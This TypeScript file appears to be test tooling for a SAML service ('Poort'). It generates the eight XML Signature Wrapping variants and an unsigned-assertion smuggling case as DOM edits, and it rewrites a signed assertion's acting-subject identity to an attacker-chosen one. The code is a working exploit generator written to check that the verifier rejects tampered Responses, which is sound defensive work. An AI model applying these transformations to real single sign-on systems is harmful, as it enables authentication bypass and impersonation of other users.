// XML Signature Wrapping variants XSW1–8, as DOM operations on a signed Response (after SAML
// Raider's XSWHelpers and Somorovsky et al., "On Breaking SAML", 2012). "Evil" means the copy
// names another person: its ActingSubjectID becomes a plain NameID the attacker chose. XSW7 here
// is the SAML Raider form: the signed original hidden in Extensions, an edited copy with its ID in
// its place. `smuggleAssertion` leaves the signed assertion alone and only adds an unsigned one
// elsewhere: Poort refuses that too, rather than relying on the verifier to pick the signed node.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

function child(parent: Element, ns: string, name: string): Element | undefined {
  for (let n = parent.firstChild; n; n = n.nextSibling) if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name) return n as Element;
  return undefined;
}

/** Makes an assertion name the attacker: new ID, ActingSubjectID replaced by a plain NameID. */
export function evilize(assertion: Element, newId = '_evil'): void {
  assertion.setAttribute('ID', newId);
  const doc = assertion.ownerDocument!;
  const attributes = assertion.getElementsByTagNameNS(SAML, 'Attribute');
  for (let i = 0; i < attributes.length; i++) {
    const a = attributes.item(i)!;
    if (a.getAttribute('Name') !== 'urn:etoegang:core:ActingSubjectID') continue;
    const value = child(a, SAML, 'AttributeValue')!;
    while (value.firstChild) value.removeChild(value.firstChild);
    const nameId = doc.createElementNS(SAML, 'saml:NameID');
    nameId.setAttribute('NameQualifier', 'urn:etoegang:1.9:EntityConcernedID:Pseudo');
    nameId.appendChild(doc.createTextNode('S-attacker'));
    value.appendChild(nameId);
  }
}

function withoutSignature(element: Element): Element {
  const clone = element.cloneNode(true) as Element;
  const sig = child(clone, DS, 'Signature');
  if (sig) clone.removeChild(sig);
  return clone;
}

export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

export function applyXsw(xml: string, variant: XswVariant): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const response = doc.documentElement!;
  const assertion = child(response, SAML, 'Assertion')!;
  switch (variant) {
    case 1: {
      const signature = child(response, DS, 'Signature')!;
      signature.appendChild(withoutSignature(response));
      response.setAttribute('ID', '_evil-response');
      evilize(assertion, '_evil-assertion');
      break;
    }
    case 2: {
      const signature = child(response, DS, 'Signature')!;
      response.insertBefore(withoutSignature(response), signature);
      response.setAttribute('ID', '_evil-response');
      evilize(assertion, '_evil-assertion');
      break;
    }
    case 3: {
      const evil = withoutSignature(assertion);
      evilize(evil);
      response.insertBefore(evil, assertion);
      break;
    }
    case 4: {
      const evil = withoutSignature(assertion);
      evilize(evil);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 5: {
      const clean = withoutSignature(assertion);
      evilize(assertion);
      response.appendChild(clean);
      break;
    }
    case 6: {
      const clean = withoutSignature(assertion);
      evilize(assertion);
      child(assertion, DS, 'Signature')!.appendChild(clean);
      break;
    }
    case 7: {
      // The signed original goes into Extensions; in its place an edited copy keeps its ID.
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      const original = assertion.cloneNode(true) as Element;
      extensions.appendChild(original);
      response.insertBefore(extensions, child(response, SAMLP, 'Status')!);
      const keepId = assertion.getAttribute('ID')!;
      evilize(assertion);
      assertion.setAttribute('ID', keepId);
      break;
    }
    case 8: {
      const clean = withoutSignature(assertion);
      evilize(assertion);
      const object = doc.createElementNS(DS, 'ds:Object');
      object.appendChild(clean);
      child(assertion, DS, 'Signature')!.appendChild(object);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}

/**
 * Adds `assertionXml` (an unsigned assertion) to an otherwise valid Response: in
 * samlp:Extensions, or in a ds:Object inside the signed assertion's ds:Signature.
 */
export function smuggleAssertion(xml: string, assertionXml: string, into: 'extensions' | 'signature-object'): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const response = doc.documentElement!;
  const extra = new DOMParser().parseFromString(assertionXml, 'text/xml').documentElement!;
  const imported = doc.importNode(extra, true);
  if (into === 'extensions') {
    const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
    extensions.appendChild(imported);
    response.insertBefore(extensions, child(response, SAMLP, 'Status')!);
  } else {
    const object = doc.createElementNS(DS, 'ds:Object');
    object.appendChild(imported);
    child(child(response, SAML, 'Assertion')!, DS, 'Signature')!.appendChild(object);
  }
  return new XMLSerializer().serializeToString(doc);
}
